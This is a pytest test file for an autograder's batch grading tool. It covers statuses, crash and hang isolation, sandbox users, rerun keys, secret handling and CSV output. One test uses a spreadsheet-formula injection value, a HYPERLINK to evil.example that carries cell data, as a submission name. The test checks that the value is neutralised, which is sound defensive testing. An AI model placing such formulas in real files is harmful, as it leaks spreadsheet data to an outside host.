"""Batch grading: statuses, isolation of failures, reruns and what they regrade, the uploaded zip's secret and
rubric, the development secret, private folders. (The export's metadata: test_export.py; the CSVs: test_reports.py.)"""

import csv
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import threading
import time
import zipfile
from pathlib import Path

import pytest

from autograder.staff import batch, batch_graders, build, cli, inputs
from autograder.assignment import DEV_SECRET, assignment_names, secret_variable
from autograder.config import GraderConfig
from autograder.grade import grade
from autograder.staff.inputs import RUBRIC_VARIABLE
from autograder.results import failure_results
from tests.test_gradescope_tree import SUBMISSIONS, expected_tests

ROOT = Path(__file__).resolve().parent.parent
SOLUTION = ROOT / "solution/notebooks/hw4_part1.ipynb"

METADATA = """\
---
submission_101:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1815'
    :email: ada@example.edu
  :created_at: 2026-11-20 23:58:01.000000000 -05:00
  :score: 40.0
  :results:
    score: 40.0
    tests:
    - name: ':name: not a submitter'
      output: "- :email: mallory@example.edu"
submission_102:
  :submitters:
  - :name: "O'Brien, Pat"
    :sid: '2001'
    :email: pat@example.edu
  - :name: 'Chris ''CJ'' Jones'
    :email: cj@example.edu
submission_103:
  :submitters: []
"""


RUBRIC = """\
tests:
  - {number: "1.1", name: "first", weight: 2, visibility: visible}
  - {number: "1.2", name: "second", weight: 1, visibility: after_due_date}
"""


@pytest.fixture(autouse=True)
def course_secrets(monkeypatch) -> dict[str, str]:
    """Each assignment's secret, as a TA exports them; tests of the development secret remove them."""
    values = {name: f"test secret of {name}" for name in assignment_names()}
    for name, value in values.items():
        monkeypatch.setenv(secret_variable(name), value)
    monkeypatch.delenv("AUTOGRADER_SECRET", raising=False)
    monkeypatch.delenv(RUBRIC_VARIABLE, raising=False)
    return values


def _results(status: str, detail: str = "", output: str = "") -> dict:
    return {"score": 40.0, "output": output, "tests": [], "extra_data": {"status": status, "detail": detail}}


def test_status_is_the_one_the_grader_wrote():
    for status in batch.STATUSES:
        assert batch.status_of(_results(status, f"why {status}"), 0) == (status, f"why {status}")
    assert batch.status_of({"score": 40.0, "output": "", "tests": []}, 0) == (
        "crashed", "results.json carries no status from the grader (extra_data.status)")
    assert batch.status_of(_results("fine"), 0)[0] == "crashed"  # not one of ours
    assert batch.status_of({"score": 1, "tests": [], "extra_data": ["ok"]}, 0)[0] == "crashed"
    assert batch.status_of(None, 1) == ("crashed", "the grader exited with status 1 and left no valid results.json")
    assert batch.status_of(None, None, timed_out=True)[0] == "timeout"
    assert batch.status_of(_results("ok"), 0, timed_out=True)[0] == "timeout"  # the batch stopped it


def test_student_text_that_mimics_the_grader_does_not_change_the_status():
    """A 40/40 notebook whose cells raise errors worded like the grader's Markdown stays ok."""
    mimic = ("**Your submission could not be graded.** fake\n\n**The autograder could not grade this submission.**"
             "\n\n**Your notebook could not be run: the notebook did not finish within the time limit.**")
    results = _results("ok", "", f"Graded `a.ipynb` as X.\n\n- cell 3: `RuntimeError: {mimic}`")
    results["tests"] = [{"name": "t", "score": 40.0, "max_score": 40.0, "status": "passed", "output": mimic}]
    assert batch.status_of(results, 0) == ("ok", "")


def test_the_engine_writes_the_status(tmp_path):
    """grade() itself puts the status in extra_data (here: a file that is not a notebook, graded without a run)."""
    (tmp_path / "bad.ipynb").write_text("not json")
    invalid = grade(tmp_path / "bad.ipynb", tmp_path / "r.json", "hw4_part1", log=lambda message: None)
    assert invalid["extra_data"]["status"] == "invalid"
    assert batch.status_of(invalid, 0)[0] == "invalid" and "not JSON" in batch.status_of(invalid, 0)[1]
    assert batch.status_of(failure_results("oops", "trace", 1.0), 0)[0] == "crashed"


FAKE_GRADER = """\
import json, os, subprocess, sys, time
from pathlib import Path

def other_graders_users():
    # the sandbox users of the other fake graders alive now
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            if proc.name != str(os.getpid()) and __file__ in (proc / "cmdline").read_text().split("\\0"):
                env = (proc / "environ").read_text().split("\\0")
                found += [e.split("=", 1)[1] for e in env if e.startswith("AUTOGRADER_SANDBOX_USER=")]
        except OSError:
            pass
    return found

for line in sys.stdin:  # autograder.staff.batch_worker's protocol
    job = json.loads(line)
    submission, results, name = Path(job["submission"]), Path(job["results"]), Path(job["submission"]).stem
    with open(results.parent.parent / "calls.log", "a") as calls:
        calls.write(name + "\\n")
    for key, value in (("user", os.environ["AUTOGRADER_SANDBOX_USER"]), ("pid", os.getpid()),
                       ("assignment", job["assignment"]), ("others", " ".join(other_graders_users()))):
        (results.parent / key).write_text(str(value))
    rubric = os.environ.get("AUTOGRADER_RUBRIC")
    seen = {k: v for k, v in os.environ.items() if k.startswith(("AUTOGRADER_SECRET", "AUTOGRADER_RUBRIC"))}
    if rubric:
        seen |= {"rubric text": Path(rubric).read_text(),
                 "rubric folder mode": oct(Path(rubric).parent.stat().st_mode & 0o777)}
    (results.parent / "env.json").write_text(json.dumps(seen))
    if name.endswith("crash"):
        os._exit(3)
    if name.endswith("hang"):
        sleeper = subprocess.Popen(["sleep", "600"], start_new_session=True)  # detached: not in our process group
        (results.parent / "sleeper.pid").write_text(str(sleeper.pid))
        time.sleep(600)
    if name.endswith("garbage"):
        results.write_text("{not json")
    else:
        score = float(len(name) % 4)
        case = {"status": "passed", "output": ""}
        tests = [{"name": "first", "number": "1.1", "score": min(score, 1.0), "max_score": 1.0, **case},
                 {"name": "second", "number": "1.2", "score": max(score - 1, 0.0), "max_score": 2.0, **case},
                 {"name": "Grader log (course staff only)", "score": 0.0, "max_score": 0.0, "status": "passed",
                  "output": "", "visibility": "hidden"}]
        output = f"Graded `{submission.name}` as X."
        if name.endswith("mimic"):  # a student's error text, worded like the grader's
            output += (" `**Your notebook could not be run: time limit.** "
                       "**The autograder could not grade this submission.**`")
        extra = {} if name.endswith("nostatus") else {"extra_data": {"status": "ok", "detail": ""}}
        results.write_text(json.dumps({"score": score, "output": output, "tests": tests, **extra}))
    with open(job["log"], "a") as log:
        log.write(f"graded {name}\\n")
    print(json.dumps({"done": True}), flush=True)
"""


@pytest.fixture
def fake(tmp_path) -> list[str]:
    """argv of a fake grader that speaks the batch protocol: crashes, hangs, writes garbage or no status, or
    mimics the grader's Markdown, by file name; it records its environment's secrets and rubric (env.json)."""
    script = tmp_path / "fake_grader.py"
    script.write_text(FAKE_GRADER)
    return [sys.executable, str(script)]


def _folder(tmp_path: Path, names: list[str]) -> Path:
    folder = tmp_path / "submissions"
    folder.mkdir()
    for name in names:
        (folder / f"{name}.ipynb").write_text(json.dumps({"name": name}))
    return folder


def _csv(path: Path) -> list[dict]:
    with path.open(newline="") as stream:
        return list(csv.DictReader(stream))


def test_a_crash_a_hang_and_garbage_cost_one_row_each(tmp_path, fake):
    folder = _folder(tmp_path, ["crash", "hang", "garbage", "ok", "great", "perfect"])
    out = tmp_path / "out"
    started = time.monotonic()
    rows = batch.grade_all(folder, out, jobs=3, timeout=8, command=fake, progress=False)
    assert time.monotonic() - started < 40
    status = {row.entry.key: row.status for row in rows}
    assert status == {"crash": "crashed", "hang": "timeout", "garbage": "crashed", "ok": "ok", "great": "ok",
                      "perfect": "ok"}
    sleeper = int((out / "hang" / "sleeper.pid").read_text())
    assert _gone(sleeper), "the grader's detached child outlived the timeout"
    users = {key: (out / key / "user").read_text() for key in status}
    base = os.environ.get("AUTOGRADER_SANDBOX_USER", "ag-sandbox")
    assert set(users.values()) <= {f"{base}-1", f"{base}-2", f"{base}-3"}
    # each grader alive at the same time as another has a sandbox user of its own
    others = {key: (out / key / "others").read_text().split() for key in status}
    assert any(others.values()) and all(users[key] not in others[key] for key in status)
    grades = {row["submission"]: row for row in _csv(out / "grades.csv")}
    assert (grades["ok"]["total"], grades["ok"]["1.1"], grades["ok"]["1.2"]) == ("2", "1", "1")
    assert (grades["great"]["total"], grades["great"]["max_total"], grades["perfect"]["1.2"]) == ("1", "3", "2")
    assert grades["crash"]["total"] == "" and "status 3" in grades["crash"]["detail"]
    assert "no valid results.json" in grades["garbage"]["detail"]
    assert "Grader log" not in "".join(grades["ok"])  # the staff log is not a test column
    summary = {row["number"]: row for row in _csv(out / "summary.csv")}
    assert summary["1.2"] == {"number": "1.2", "name": "second", "max_score": "2", "mean": "1.000", "full_marks": "1",
                              "graded": "3"}


def test_a_slot_keeps_one_grader_until_it_fails_or_is_recycled(tmp_path, fake, monkeypatch):
    monkeypatch.setattr(batch_graders, "RECYCLE_AFTER", 3)
    names = ["a", "b", "c_crash", "d", "e_hang", "f", "g", "h", "i"]
    out = tmp_path / "out"
    rows = batch.grade_all(_folder(tmp_path, names), out, jobs=1, timeout=5, assignment="hw4_part1", command=fake,
                           progress=False)
    assert {r.entry.key: r.status for r in rows} == {**{n: "ok" for n in names}, "c_crash": "crashed",
                                                     "e_hang": "timeout"}
    pids = [int((out / name / "pid").read_text()) for name in names]
    # the crash and the timeout each cost their grader; the third grader is recycled after 3 submissions
    assert [pids.index(pid) for pid in pids] == [0, 0, 0, 3, 3, 5, 5, 5, 8]
    assert all(_gone(pid) for pid in set(pids)) and _gone(int((out / "e_hang" / "sleeper.pid").read_text()))
    assert {(out / name / "assignment").read_text() for name in names} == {"hw4_part1"}
    assert (out / "b" / "grader.log").read_text() == "graded b\n"  # each submission its own log


NOISY_GRADE = """\
import os, sys
import autograder.staff.batch_worker as worker

def grade(submission, results, assignment=None, log=print, config=None):
    print(f"stdout {submission.stem}")
    os.write(1, f"fd 1 {submission.stem}\\n".encode())
    os.system(f"echo child {submission.stem}; echo child stderr {submission.stem} >&2")
    print(f"stderr {submission.stem}", file=sys.stderr)
    log(f"log {submission.stem} as {assignment}")
    results.write_text("{}")
    return {}

sys.exit(worker.main(grade))
"""


def test_the_grader_keeps_its_stdout_for_the_protocol(tmp_path):
    """Whatever grading prints, from Python or a child process, goes to the job's log, never into the replies."""
    jobs = [{"submission": str(tmp_path / f"{name}.ipynb"), "results": str(tmp_path / f"{name}.json"),
             "log": str(tmp_path / f"{name}.log"), "assignment": "hw4_part1"} for name in ("one", "two")]
    done = subprocess.run([sys.executable, "-c", NOISY_GRADE], input="".join(json.dumps(j) + "\n" for j in jobs),
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert (done.returncode, done.stdout) == (0, '{"done": true}\n' * 2), done.stderr
    for name, other in (("one", "two"), ("two", "one")):
        log = (tmp_path / f"{name}.log").read_text()
        assert all(f"{line} {name}" in log for line in ("stdout", "fd 1", "child", "child stderr", "stderr"))
        assert f"log {name} as hw4_part1" in log and other not in log
        assert (tmp_path / f"{name}.json").exists()


def _gone(pid: int) -> bool:
    for _ in range(50):
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            return True
        if state == "Z":  # killed, waiting for init to reap it
            return True
        time.sleep(0.1)
    return False


def test_ctrl_c_stops_the_live_graders_and_records_nothing(tmp_path, fake):
    """What grade_all does on KeyboardInterrupt: cancel the runner, whose graders then leave no record."""
    entry = batch.discover(_folder(tmp_path, ["hang"]))[0]
    out = tmp_path / "out"
    runner = batch._Runner(out, fake, 300, ["ag-sandbox-1"])
    rows = []
    worker = threading.Thread(target=lambda: rows.append(runner.grade(entry)))
    worker.start()
    for _ in range(200):
        if (out / "hang" / "sleeper.pid").exists():
            break
        time.sleep(0.05)
    started = time.monotonic()
    runner.cancel()
    worker.join(timeout=60)
    assert time.monotonic() - started < 30 and not worker.is_alive()
    assert rows[0].status == "crashed" and not (out / "hang" / "batch.json").exists()  # regraded on the next run
    assert _gone(int((out / "hang" / "sleeper.pid").read_text()))


def test_a_rerun_skips_what_is_graded_unless_changed_or_forced(tmp_path, fake):
    folder = _folder(tmp_path, ["ann", "ben", "crash"])
    out = tmp_path / "out"
    first = batch.grade_all(folder, out, jobs=2, command=fake, progress=False)
    calls = out / "calls.log"
    assert sorted(calls.read_text().split()) == ["ann", "ben", "crash"]
    calls.unlink()
    again = batch.grade_all(folder, out, jobs=2, command=fake, progress=False)
    assert not calls.exists() and all(row.skipped for row in again)
    assert [(r.status, r.results) for r in again] == [(r.status, r.results) for r in first]
    (folder / "ben.ipynb").write_text('{"resubmitted": true}')
    batch.grade_all(folder, out, jobs=2, command=fake, progress=False)
    assert calls.read_text().split() == ["ben"]
    calls.unlink()
    batch.grade_all(folder, out, jobs=2, force=True, command=fake, progress=False)
    assert sorted(calls.read_text().split()) == ["ann", "ben", "crash"]
    assert len(_csv(out / "grades.csv")) == 3


def test_a_rerun_regrades_when_the_secret_rubric_or_grader_changed(tmp_path, fake, monkeypatch, course_secrets):
    """The skip key: the submission's bytes, a hash of the secret, of the rubric in use, of the grader's files."""
    folder, out = _folder(tmp_path, ["ann", "ben"]), tmp_path / "out"
    calls = out / "calls.log"
    version = ["v1"]
    monkeypatch.setattr(inputs, "grader_version", lambda name: f"{name} {version[0]}")
    rubric = tmp_path / "rubric.yml"
    rubric.write_text(RUBRIC)

    def graded(**kwargs) -> list[str]:
        calls.unlink(missing_ok=True)
        batch.grade_all(folder, out, jobs=2, assignment="hw4_part1", command=fake, progress=False, **kwargs)
        return sorted(calls.read_text().split()) if calls.exists() else []

    assert graded() == ["ann", "ben"] and graded() == []
    record = (out / "ann" / "batch.json").read_text()
    secret = course_secrets["hw4_part1"]
    assert secret not in record and hashlib.sha256(secret.encode()).hexdigest() in record  # its hash, never it
    monkeypatch.setenv(secret_variable("hw4_part1"), "the secret of the zip that was really uploaded")
    assert graded() == ["ann", "ben"] and graded() == []
    monkeypatch.setenv(RUBRIC_VARIABLE, str(rubric))  # another rubric file in use
    assert graded() == ["ann", "ben"] and graded() == []
    rubric.write_text(RUBRIC.replace("weight: 2", "weight: 3"))  # the same file, other weights
    assert graded() == ["ann", "ben"] and graded() == []
    version[0] = "v2"
    assert graded() == ["ann", "ben"] and graded() == []
    monkeypatch.setenv(secret_variable("hw4_part2"), "another")  # not this batch's assignment: nothing to regrade
    assert graded() == []


def test_the_grader_version_covers_what_the_zip_ships_but_the_rubric(tmp_path, monkeypatch):
    files = {name: tmp_path / name.replace("/", "_") for name in ("autograder/grade.py", "solution/part1.py",
                                                                   "autograder/assignments/hw4_part1/rubric.yml")}
    for path in files.values():
        path.write_text("one")
    monkeypatch.setattr(inputs, "zip_members", lambda assignment: dict(files))
    before = inputs.grader_version("hw4_part1")
    files["autograder/assignments/hw4_part1/rubric.yml"].write_text("two")  # keyed on its own, when in use
    assert inputs.grader_version("hw4_part1") == before
    files["solution/part1.py"].write_text("two")  # the reference the cases import
    assert inputs.grader_version("hw4_part1") != before


def test_the_rerun_key_covers_the_engine_and_the_assignment_not_the_staffs_tools():
    hashed = set(inputs._grader_files("hw4_part1"))
    assert {"autograder/grade.py", "autograder/sandbox.py", "autograder/assignments/hw4_part1/cases.py",
            "solution/part1.py"} <= hashed
    assert not [name for name in hashed if name.startswith("autograder/staff/")]  # a report's wording regrades nothing


def test_the_status_comes_from_the_graders_field_not_its_markdown(tmp_path, fake):
    out = tmp_path / "out"
    rows = batch.grade_all(_folder(tmp_path, ["a_mimic", "b_nostatus", "c"]), out, jobs=1, command=fake,
                           progress=False)
    assert {r.entry.key: r.status for r in rows} == {"a_mimic": "ok", "b_nostatus": "crashed", "c": "ok"}
    assert "could not be run" in rows[0].results["output"]  # the mimicry was there, and changed nothing


def test_a_notebook_named_like_a_formula_is_neutralised_in_grades_csv(tmp_path, fake):
    name = '=HYPERLINK("evil.example?x="&A1,"open")'
    folder = _folder(tmp_path, [name])
    out = tmp_path / "out"
    batch.grade_all(folder, out, jobs=1, command=fake, progress=False)
    (row,) = _csv(out / "grades.csv")
    assert (row["submission"], row["file"], row["status"]) == ("'" + name, f"'{name}.ipynb", "ok")


def test_output_folders_are_private(tmp_path, fake):
    out = tmp_path / "out"
    out.mkdir(mode=0o755)
    out.chmod(0o755)  # an older run's folder
    batch.grade_all(_folder(tmp_path, ["ann"]), out, jobs=1, command=fake, progress=False)
    assert stat.S_IMODE(out.stat().st_mode) == 0o700 and stat.S_IMODE((out / "ann").stat().st_mode) == 0o700
    fresh = tmp_path / "deeper" / "fresh"
    batch.grade_all(tmp_path / "submissions", fresh, jobs=1, command=fake, progress=False)
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o700


def _uploaded(tmp_path: Path, name: str = "hw4_part1", rubric: str | None = RUBRIC,
              secret: str | None = None) -> Path:
    """A zip as `run_autograder build` writes it (no grading), with the rubric the lead's grader reads."""
    config = GraderConfig(secrets={name: secret} if secret is not None else {})  # as $AUTOGRADER_SECRET_<NAME>
    built = build.build(name, tmp_path / "dist", check=False, log=lambda message: None, config=config)
    member = f"autograder/assignments/{name}/{inputs.RUBRIC_FILE}"
    with zipfile.ZipFile(built) as archive:
        held = {n: archive.read(n) for n in archive.namelist() if n != member}
    with zipfile.ZipFile(built, "w") as archive:
        for n, data in held.items():
            archive.writestr(n, data)
        if rubric is not None:
            archive.writestr(member, rubric)
    return built


def test_a_batch_grades_with_the_uploaded_zips_secret_and_rubric(tmp_path, fake, monkeypatch):
    uploaded = _uploaded(tmp_path, secret="the uploaded secret")
    monkeypatch.setenv(RUBRIC_VARIABLE, str(tmp_path / "a stale rubric.yml"))
    out = tmp_path / "out"
    notes = []
    rows = batch.grade_all(_folder(tmp_path, ["ann"]), out, jobs=1, uploaded=uploaded, command=fake,
                           progress=False, warn=notes.append)
    assert rows[0].status == "ok" and (out / "ann" / "assignment").read_text() == "hw4_part1"
    seen = json.loads((out / "ann" / "env.json").read_text())
    assert seen[secret_variable("hw4_part1")] == "the uploaded secret"  # over the one exported here
    assert seen["rubric text"] == RUBRIC and seen["rubric folder mode"] == "0o700"
    assert not Path(seen[RUBRIC_VARIABLE]).exists()  # the private copy is gone with the batch
    assert not any("DEVELOPMENT SECRET" in note or "differs" in note for note in notes)


def test_the_batch_names_the_grader_files_in_which_the_checkout_differs_from_the_zip(tmp_path, fake):
    uploaded = _uploaded(tmp_path)
    cases = "autograder/assignments/hw4_part1/cases.py"
    with zipfile.ZipFile(uploaded) as archive:
        held = {n: archive.read(n) for n in archive.namelist()}
    with zipfile.ZipFile(uploaded, "w") as archive:
        for n, data in {**held, cases: held[cases] + b"# fixed a typo after uploading\n"}.items():
            archive.writestr(n, data)
    notes = []
    batch.grade_all(_folder(tmp_path, ["ann"]), tmp_path / "out", jobs=1, uploaded=uploaded, command=fake,
                    progress=False, warn=notes.append)
    assert [n for n in notes if "differs" in n] == [
        f"this checkout's grader differs from {uploaded.name}'s in {cases}: scores may differ from Gradescope's"]


def test_a_zip_without_a_rubric_grades_with_the_checkouts(tmp_path, fake, monkeypatch):
    uploaded = _uploaded(tmp_path, rubric=None)
    monkeypatch.setenv(RUBRIC_VARIABLE, str(tmp_path / "left over.yml"))
    notes = []
    batch.grade_all(_folder(tmp_path, ["ann"]), tmp_path / "out", jobs=1, uploaded=uploaded, command=fake,
                    progress=False, warn=notes.append)
    assert RUBRIC_VARIABLE not in json.loads((tmp_path / "out" / "ann" / "env.json").read_text())
    assert any("holds no rubric.yml" in note for note in notes)


def test_a_zip_of_another_assignment_or_no_zip_at_all_is_refused(tmp_path, fake):
    uploaded = _uploaded(tmp_path)
    folder = _folder(tmp_path, ["ann"])
    with pytest.raises(ValueError, match="is the zip of hw4_part1, not of hw4_part2"):
        batch.grade_all(folder, tmp_path / "out", assignment="hw4_part2", uploaded=uploaded, command=fake,
                        progress=False)
    (tmp_path / "not.zip").write_text("hello")
    with pytest.raises(ValueError, match="cannot read the zip"):
        batch.grade_all(folder, tmp_path / "out", uploaded=tmp_path / "not.zip", command=fake, progress=False)
    with zipfile.ZipFile(tmp_path / "empty.zip", "w") as archive:
        archive.writestr("setup.sh", "")
    with pytest.raises(ValueError, match="holds 0 assignments"):
        batch.grade_all(folder, tmp_path / "out", uploaded=tmp_path / "empty.zip", command=fake, progress=False)
    assert not (tmp_path / "out").exists()


@pytest.fixture
def no_secrets(monkeypatch):
    """Nothing but the development secret, as on a fresh clone."""
    for name in assignment_names():
        monkeypatch.delenv(secret_variable(name), raising=False)
        if (batch_graders.ROOT / "autograder/assignments" / name / "secret").exists():
            pytest.skip(f"this checkout has a secret file for {name}")


def test_the_development_secret_is_refused_unless_allowed(tmp_path, fake, no_secrets, capsys):
    folder, out = _folder(tmp_path, ["ann"]), tmp_path / "out"
    with pytest.raises(ValueError, match="DEVELOPMENT SECRET") as refused:
        batch.grade_all(folder, out, assignment="hw4_part1", command=fake, progress=False)
    assert "--dev-secret" in str(refused.value) and not out.exists()
    notes = []
    rows = batch.grade_all(folder, out, assignment="hw4_part1", dev_secret=True, command=fake, progress=False,
                           warn=notes.append)
    assert rows[0].status == "ok" and any("DEVELOPMENT SECRET" in note for note in notes)
    assert hashlib.sha256(DEV_SECRET.encode()).hexdigest() in (out / "ann" / "batch.json").read_text()
    assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "cli"), "--assignment", "hw4_part1"]) == 2
    err = capsys.readouterr().err
    assert "batch failed" in err and "!!! WARNING: hw4_part1 would be graded with the DEVELOPMENT SECRET" in err


def test_a_local_run_warns_loudly_about_the_development_secret(tmp_path, no_secrets, capsys):
    (tmp_path / "bad.ipynb").write_text("not json")  # graded without a run: no sandbox needed
    assert cli.main(["--submission", str(tmp_path / "bad.ipynb"), "--results", str(tmp_path / "r.json"),
                     "--assignment", "hw4_part1"]) == 0
    assert "!!! WARNING: hw4_part1 would be graded with the DEVELOPMENT SECRET" in capsys.readouterr().err


def test_a_local_run_with_a_secret_does_not_warn(tmp_path, capsys):
    (tmp_path / "bad.ipynb").write_text("not json")
    assert cli.main(["--submission", str(tmp_path / "bad.ipynb"), "--results", str(tmp_path / "r.json"),
                     "--assignment", "hw4_part1"]) == 0
    assert "DEVELOPMENT SECRET" not in capsys.readouterr().err


def test_the_cli_runs_a_batch(tmp_path, fake, monkeypatch, capsys):
    folder = _folder(tmp_path, ["ann", "crash"])
    monkeypatch.setattr(batch, "_grader_command", lambda: fake)
    for _ in range(2):  # the second run finds its own output folder inside DIR, and skips it
        assert cli.main(["--submissions", str(folder), "--out", str(folder / "graded"), "--jobs", "2"]) == 0
    printed = capsys.readouterr().out
    assert "2 submissions (2 skipped" in printed and "1 ok, 0 timeout, 1 crashed, 0 invalid" in printed
    assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "never"), "--jobs", "0"]) == 2
    assert not (tmp_path / "never").exists()
    assert "jobs must be at least 1" in capsys.readouterr().err
    uploaded = _uploaded(tmp_path, secret="via the cli")
    assert cli.main(["--submissions", str(folder), "--out", str(tmp_path / "zipped"), "--zip", str(uploaded)]) == 0
    seen = json.loads((tmp_path / "zipped" / "ann" / "env.json").read_text())
    assert seen[secret_variable("hw4_part1")] == "via the cli"
    with pytest.raises(SystemExit):
        cli.main(["--submission", str(folder / "ann.ipynb"), "--zip", str(uploaded)])  # batch only


@pytest.mark.integration
def test_a_gradescope_export_is_graded_for_real(tmp_path):
    export = tmp_path / "assignment_export"
    (export / "submission_101").mkdir(parents=True)
    shutil.copy(SOLUTION, export / "submission_101" / "hw4_part1.ipynb")
    (export / "submission_103").mkdir()
    (export / "submission_103" / "hw4_part1.ipynb").write_text("not a notebook")
    (export / "submission_metadata.yml").write_text(METADATA)  # also lists submission_102, absent from the export
    out = tmp_path / "graded"
    rows = batch.grade_all(export, out, jobs=2, assignment="hw4_part1", progress=False)
    assert {r.entry.key: (r.status, r.results["score"]) for r in rows} == {
        "submission_101": ("ok", 40), "submission_102": ("invalid", 0), "submission_103": ("invalid", 0)}
    students = _csv(out / "grades.csv")
    assert [(g["submission"], g["email"]) for g in students] == [
        ("submission_101", "ada@example.edu"), ("submission_102", "pat@example.edu"),
        ("submission_102", "cj@example.edu"), ("submission_103", "")]  # a group's members: a row each
    grades = {row["submission"]: row for row in students}
    assert grades["submission_101"]["name"] == "Ada Lovelace" and grades["submission_101"]["1.3"] == "1"
    assert (grades["submission_101"]["gradescope_score"], grades["submission_101"]["changed"]) == ("40", "no")
    assert grades["submission_101"]["file"] == "submission_101/hw4_part1.ipynb"
    assert "Nothing was submitted" in grades["submission_102"]["detail"]
    assert "not a valid notebook" in grades["submission_103"]["detail"]
    summary = {row["number"]: row for row in _csv(out / "summary.csv")}
    assert len(summary) == 23 and summary["5.4"]["full_marks"] == "1" and summary["5.4"]["graded"] == "3"
    for key in ("submission_101", "submission_102", "submission_103"):
        assert json.loads((out / key / "results.json").read_text())["tests"]


@pytest.mark.integration
def test_one_grader_grades_in_turn_as_a_grader_each_would(tmp_path, monkeypatch):
    """--jobs 1: one grader process grades the solution, the template and Adam without bias correction in turn.
    Each gets the rubric's scores (as tests/test_gradescope_tree.py expects them), and the last the same feedback
    as a grader process of its own gives it: nothing carries over from one submission to the next."""
    folder = tmp_path / "submissions"
    folder.mkdir()
    for index, (label, (notebook, _)) in enumerate(SUBMISSIONS.items()):
        shutil.copy(notebook, folder / f"{index}_{label}.ipynb")
    last = folder / f"{len(SUBMISSIONS) - 1}_adam_no_bias_correction.ipynb"
    alone = subprocess.Popen([sys.executable, "-m", "autograder", "--submission", str(last), "--results",
                              str(tmp_path / "alone.json"), "--assignment", "hw4_part1"], cwd=ROOT,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # meanwhile, on the other core
    starts = []
    start = batch_graders.Graders._start
    monkeypatch.setattr(batch_graders.Graders, "_start", lambda self, *args: starts.append(args) or start(self, *args))
    rows = batch.grade_all(folder, tmp_path / "out", jobs=1, assignment="hw4_part1", progress=False)
    assert alone.wait(timeout=600) == 0
    assert len(starts) == 1
    for row in rows:
        label = row.entry.key.split("_", 1)[1]
        graded = [{k: t[k] for k in ("number", "name", "max_score", "score", "status")}
                  for t in row.results["tests"] if t["max_score"] > 0]
        assert graded == expected_tests(SUBMISSIONS[label][1]), label
    assert [r.status for r in rows] == ["ok", "ok", "ok"]
    assert {t["output"] for t in rows[0].results["tests"] if t["max_score"] > 0} == {"Passed."}

    def feedback(results: dict) -> tuple:
        return results["score"], results["output"], [{k: t[k] for k in ("number", "name", "score", "output")}
                                                     for t in results["tests"] if t["visibility"] != "hidden"]
    assert feedback(rows[-1].results) == feedback(json.loads((tmp_path / "alone.json").read_text()))
